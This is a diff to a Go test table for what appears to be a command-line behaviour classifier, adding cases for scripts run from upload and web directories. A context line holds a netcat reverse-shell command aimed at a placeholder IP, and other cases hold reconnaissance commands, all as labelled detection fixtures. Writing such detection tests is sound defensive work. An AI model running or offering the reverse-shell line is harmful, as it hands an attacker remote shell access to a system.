@@ -23,6 +23,8 @@ func TestRead(t *testing.T) {
 		"empty":                         {args: []string{""}},
 		"blank":                         {args: []string{"  \n"}},
 		"bare shell says nothing":       {args: []string{"/bin/sh"}},
+		"a script among uploads":        {args: []string{"sh", "/app/uploads/entrypoint.sh"}},
+		"a script in a web folder":      {args: []string{"sh", "-c", "exec /var/www/html/run.sh"}, want: []Behavior{ShellWrapper}, class: Benign},
 		"a lone id is neutral":          {args: []string{"id"}, want: []Behavior{Recon}},
 		"a chain is not":                {args: []string{"sh", "-c", "id; hostname; uname -a"}, want: []Behavior{Recon}, class: Suspicious},
 		"vector without its program":    {args: []string{"-c", "nc -e /bin/sh 203.0.113.1 1"}, want: []Behavior{ReverseShell}, class: Malicious},
